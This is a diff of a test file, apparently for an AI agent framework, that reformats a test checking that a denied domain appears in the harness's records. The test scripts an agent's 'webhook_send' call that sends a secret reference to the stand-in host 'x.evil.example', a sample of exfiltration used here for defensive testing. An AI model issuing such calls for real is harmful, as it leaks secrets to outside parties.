@@ -111,17 +111,8 @@ async def test_each_kind_of_proposal_would_have_blocked_the_effect(
 
 
 async def test_a_denied_domain_is_found_in_what_was_recorded(held: Harness) -> None:
-    script = [
-        {
-            "calls": [
-                {
-                    "skill": "webhook_send",
-                    "arguments": {"url": "https://x.evil.example/", "payload": {}, "secret": "secret://x"},
-                }
-            ]
-        },
-        DONE,
-    ]
+    arguments = {"url": "https://x.evil.example/", "payload": {}, "secret": "secret://x"}
+    script = [{"calls": [{"skill": "webhook_send", "arguments": arguments}]}, DONE]
     held.parts.registry.load(["agentos.adapters.skills.webhook_send"])
     await held.agent(script, ["webhook_send"], tier="L1", name="teller")
     await held.finish(await held.start(name="teller"))
